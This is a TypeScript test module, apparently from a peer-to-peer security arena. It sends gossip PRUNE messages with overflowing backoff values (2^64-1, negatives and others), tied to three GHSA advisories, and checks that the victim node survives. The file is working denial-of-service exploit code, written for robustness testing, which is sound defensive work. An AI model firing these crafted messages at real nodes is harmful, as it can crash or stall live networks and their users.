import { setTimeout as pause } from 'node:timers/promises';
import { attackerAddress } from '../arena.js';
import type { Attack } from '../attack.js';
import { bytesField, numberField } from '../wire/encoding.js';
import { control, rpc, subscription } from '../wire/gossip.js';
import { Protocols } from '../wire/peer.js';

const TOPIC = 'attack/0.1';
const BACKOFFS = [2n ** 64n - 1n, 2n ** 63n, 2n ** 53n, 0n, -1n, -(2n ** 63n)];

/** PRUNE with times to come back that overflow where they are added up. */
export const pruneBackoff: Attack = {
  name: 'prune-backoff',
  source: 'GHSA-g3g5-x568-qvqx, GHSA-xqmp-fxgv-xvq5, GHSA-gc42-3jg7-rxr2',
  limit: 'alive',
  run: async (arena) => {
    for (const [index, backoff] of BACKOFFS.entries()) {
      const { yamux } = await arena.join(arena.peer(), attackerAddress(20, 1 + index));
      const stream = yamux.open(Protocols.gossip);
      stream.write(rpc(subscription(TOPIC)));
      stream.write(rpc(control(bytesField(3, bytesField(1, TOPIC)))));
      const prune = Buffer.concat([bytesField(1, TOPIC), numberField(3, backoff)]);
      stream.write(rpc(control(bytesField(4, prune))));
      stream.write(rpc(control(bytesField(3, bytesField(1, TOPIC)))));
      await pause(100);
    }
    // Some heartbeats, which is when backoffs are looked at.
    await pause(2_500);
    const dialMs = await arena.honestDial();
    return {
      figure: `alive after ${BACKOFFS.length}, honest dial ${Math.round(dialMs)} ms`,
      ok: arena.victim.isAlive && dialMs <= 2_000,
    };
  },
};
